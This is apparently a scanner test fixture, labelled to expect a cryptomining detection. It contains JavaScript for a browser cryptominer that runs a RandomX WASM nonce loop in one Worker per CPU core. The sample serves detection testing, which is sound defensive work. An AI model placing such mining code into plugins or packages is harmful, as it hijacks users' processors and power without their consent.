// expect: category=cryptomining min=95 context=plugin,package
// why: a RandomX WASM module runs a nonce loop in one Worker per core.
const cores = Math.max(1, (navigator.hardwareConcurrency || 4) - 1);

const workerSrc = `
  let hasher;
  onmessage = async (e) => {
    if (e.data.wasm) {
      const { instance } = await WebAssembly.instantiate(e.data.wasm, {});
      hasher = instance.exports;
      hasher.randomx_init(e.data.seed);
      return;
    }
    const { blob, target, start } = e.data;
    for (let nonce = start; ; nonce += ${cores}) {
      const h = hasher.randomx_hash(blob, nonce);
      if (h < target) postMessage({ nonce, h });
    }
  };`;

fetch('/static/rx.wasm').then((r) => r.arrayBuffer()).then((wasm) => {
  for (let i = 0; i < cores; i++) {
    const w = new Worker(URL.createObjectURL(new Blob([workerSrc])));
    w.postMessage({ wasm, seed: 'seed' });
  }
});
